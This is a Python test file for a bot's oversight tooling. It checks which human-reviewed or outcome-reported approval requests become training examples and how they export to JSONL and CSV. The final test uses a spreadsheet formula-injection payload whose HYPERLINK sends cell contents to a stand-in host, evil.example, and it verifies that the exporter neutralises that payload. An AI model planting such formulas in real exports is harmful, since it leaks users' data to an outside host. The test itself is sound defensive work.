"""Training examples on a hand-made history: which items become examples and what they hold."""

from __future__ import annotations

import csv
import dataclasses
import io
import json
from typing import Any

import pytest

from bot.core.domain import POLICY_ACTOR, Action, ApprovalRequest, Status, Verdict, Vote
from bot.oversight.training import CSV_FIELDS, examples, render
from routing import Lane, Risk
from tests.unit.history import (
    T0,
    approved,
    confirmed,
    rejected,
    request,
    reversed_,
    unjudged,
    vote,
)

MODIFIED = Action("invoice", "File INV-3", {"invoice": 3, "amount": 90})


def history() -> list[ApprovalRequest]:
    return [
        approved(
            1,
            0.45,
            amount=120.0,
            currency="EUR",
            domain="billing",
            sentiment=-0.2,
            labels={"tier": "gold"},
            context={"recommendation": "File it", "alternatives": ["hold"], "goal": "close"},
        ),
        rejected(
            2,
            0.97,
            risk=Risk.HIGH,
            reasons=("high_value_transaction", "regulated_domain"),
            reversible=False,
        ),
        request(
            3,
            0.4,
            Lane.ESCALATE,
            Status.MODIFIED,
            modified_action=MODIFIED,
            votes=(vote(Verdict.MODIFY, reviewer="slack:U0BOB", rationale="cap at 90"),),
        ),
        reversed_(4, 0.85),
        confirmed(5, 0.7, Lane.REVIEW),
        # Ended by the on_timeout policy: no person's judgement, left out.
        request(6, 0.3, Lane.ESCALATE, Status.REJECTED),
        request(
            7,
            0.3,
            Lane.ESCALATE,
            Status.APPROVED,
            votes=(
                Vote(POLICY_ACTOR, "on_timeout policy", Verdict.APPROVE, "", T0, "policy", "x"),
            ),
        ),
        # One of two approvals, then the timeout: still not a person's decision.
        request(
            8,
            0.3,
            Lane.ESCALATE,
            Status.REJECTED,
            approvals_required=2,
            votes=(vote(Verdict.APPROVE),),
        ),
        # Nobody looked, but the agent reported the outcome: an example either way.
        request(
            9, 0.9, Lane.AUTONOMOUS, Status.APPROVED, outcome={"correct": False, "note": "dup"}
        ),
        request(10, 0.9, Lane.AUTONOMOUS, Status.APPROVED, outcome={"correct": True, "note": None}),
        unjudged(11, 0.9),
        request(12, 0.2, Lane.ESCALATE, Status.PENDING),
    ]


def by_id() -> dict[str, dict[str, Any]]:
    return {row["id"]: row for row in examples(history())}


def test_only_items_a_person_settled_or_with_an_outcome_become_examples() -> None:
    rows = examples(history())
    assert [r["id"] for r in rows] == [
        "req_001",
        "req_002",
        "req_003",
        "req_004",
        "req_005",
        "req_009",
        "req_010",
    ]


def test_an_approval_carries_features_proposal_and_verdict() -> None:
    row = by_id()["req_001"]
    assert row["features"] == {
        "confidence": 0.45,
        "action_kind": "invoice",
        "amount": 120.0,
        "currency": "EUR",
        "reversible": True,
        "domain": "billing",
        "sentiment": -0.2,
        "labels": {"tier": "gold"},
    }
    assert row["routing"] == {
        "lane": "escalate",
        "risk": "medium",
        "rules": [],
        "reasons": ["low_confidence"],
        "approvals_required": 1,
    }
    assert row["proposal"] == {
        "action": {"kind": "invoice", "summary": "File INV-1", "payload": {"invoice": 1}},
        "recommendation": "File it",
        "alternatives": ["hold"],
    }
    assert row["verdict"] == {
        "verdict": "approve",
        "reviewer": "web:ann",
        "name": "Ann",
        "rationale": "why",
        "at": "2026-03-01T00:01:00Z",
        "channel": "web",
        "modified_action": None,
    }
    assert row["label"] == {"override": False, "needed_human": False}
    assert row["outcome"] is None
    assert row["created_at"] == "2026-03-01T00:00:01Z"


def test_overrides_are_flagged_with_the_rules_that_fired() -> None:
    rows = by_id()
    reject = rows["req_002"]
    assert reject["routing"]["rules"] == ["high_value_transaction", "regulated_domain"]
    assert reject["features"]["reversible"] is False
    assert reject["label"] == {"override": True, "needed_human": True}
    modify = rows["req_003"]
    assert modify["verdict"]["verdict"] == "modify"
    assert modify["verdict"]["reviewer"] == "slack:U0BOB"
    assert modify["verdict"]["rationale"] == "cap at 90"
    assert modify["verdict"]["modified_action"] == {
        "kind": "invoice",
        "summary": "File INV-3",
        "payload": {"invoice": 3, "amount": 90},
    }
    assert modify["label"] == {"override": True, "needed_human": True}
    reverse = rows["req_004"]
    assert reverse["status"] == "reversed"
    assert reverse["verdict"]["verdict"] == "reverse"
    assert reverse["label"] == {"override": True, "needed_human": True}
    confirm = rows["req_005"]
    assert confirm["verdict"]["verdict"] == "confirm"
    assert confirm["label"] == {"override": False, "needed_human": False}


def test_outcome_only_items_have_no_verdict_and_take_their_label_from_the_outcome() -> None:
    rows = by_id()
    wrong, right = rows["req_009"], rows["req_010"]
    assert wrong["verdict"] is None and wrong["votes"] == []
    assert wrong["outcome"] == {"correct": False, "note": "dup"}
    assert wrong["label"] == {"override": False, "needed_human": True}
    assert right["label"] == {"override": False, "needed_human": False}


def test_overrides_only() -> None:
    rows = examples(history(), overrides_only=True)
    assert [r["id"] for r in rows] == ["req_002", "req_003", "req_004"]


def test_jsonl_is_one_sorted_object_per_line() -> None:
    rows = examples(history())
    lines = render(rows, "jsonl").splitlines()
    assert len(lines) == 7
    assert json.loads(lines[0]) == rows[0]
    assert lines[0].startswith('{"agent_id": "invoice-bot", "context": ')


def test_csv_flattens_the_same_fields() -> None:
    rows = examples(history())
    parsed = list(csv.DictReader(io.StringIO(render(rows, "csv"))))
    assert tuple(parsed[0]) == CSV_FIELDS
    assert len(parsed) == 7
    reject = parsed[1]
    assert reject["rules"] == "high_value_transaction;regulated_domain"
    assert reject["verdict"] == "reject" and reject["override"] == "True"
    modify = parsed[2]
    assert json.loads(modify["modified_action"])["payload"] == {"amount": 90, "invoice": 3}
    outcome = parsed[5]
    assert outcome["verdict"] == "" and outcome["outcome_correct"] == "False"
    assert outcome["needed_human"] == "True" and outcome["outcome_note"] == "dup"


def test_unknown_format_is_refused() -> None:
    with pytest.raises(ValueError, match="xml"):
        render([], "xml")


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_cells_that_would_run_as_formulas_are_text(start: str) -> None:
    formula = f'{start}HYPERLINK("http://evil.example/?"&A1)'
    item = rejected(1, 0.4, thread_id=formula, domain=formula)
    item = dataclasses.replace(
        item, votes=(vote(Verdict.REJECT, rationale=formula),), context={"recommendation": formula}
    )
    rows = examples([dataclasses.replace(item, outcome={"correct": False, "note": formula})])
    parsed = next(csv.DictReader(io.StringIO(render(rows, "csv"))))
    for field in ("thread_id", "domain", "rationale", "recommendation", "outcome_note"):
        assert parsed[field] == "'" + formula, field
    # Numbers stay numbers; JSONL keeps the text exactly as given.
    assert parsed["sentiment"] == "0.0" and parsed["confidence"] == "0.4"
    assert json.loads(render(rows, "jsonl"))["thread_id"] == formula
